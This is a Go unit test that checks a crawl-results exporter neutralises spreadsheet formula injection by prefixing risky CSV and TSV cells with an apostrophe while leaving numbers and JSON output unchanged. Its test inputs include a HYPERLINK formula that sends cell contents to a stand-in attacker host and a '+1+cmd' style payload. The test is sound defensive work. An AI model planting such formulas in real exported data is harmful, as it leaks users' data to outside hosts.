package results

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/winnow/winnow/schemas/columnar"
)

// A text from a crawl is never written as a formula. Numbers are not changed.
func TestNoCellIsAFormula(t *testing.T) {
	texts := []string{`=HYPERLINK("http://evil.example/?"&A1)`, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1+1", "＠x"}
	for _, format := range Formats {
		var out bytes.Buffer
		s, err := newSheet(&out, format)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.header([]string{"cell"}); err != nil {
			t.Fatal(err)
		}
		for _, text := range texts {
			if err := s.row([]columnar.Cell{{Text: text}}); err != nil {
				t.Fatal(err)
			}
		}
		for _, c := range []columnar.Cell{{Text: "-1.5", Number: true}, {Text: "-0.25"}, {Text: "+1e3"}, {Text: "-"}, {Text: "a=b"}, {Text: "", Null: true}} {
			if err := s.row([]columnar.Cell{c}); err != nil {
				t.Fatal(err)
			}
		}
		if err := s.flush(); err != nil {
			t.Fatal(err)
		}
		if format == "json" {
			if strings.Contains(out.String(), "'") {
				t.Errorf("texts are changed in JSON:\n%s", out.String())
			}
			continue
		}
		r := csv.NewReader(&out)
		if format == "tsv" {
			r.Comma = '\t'
		}
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, text := range texts {
			if got := rows[i+1][0]; got != "'"+text {
				t.Errorf("%s: %q is written as %q", format, text, got)
			}
		}
		for i, want := range []string{"-1.5", "-0.25", "+1e3", "-", "a=b"} {
			if got := rows[len(texts)+1+i][0]; got != want {
				t.Errorf("%s: %q is written as %q", format, want, got)
			}
		}
	}
}
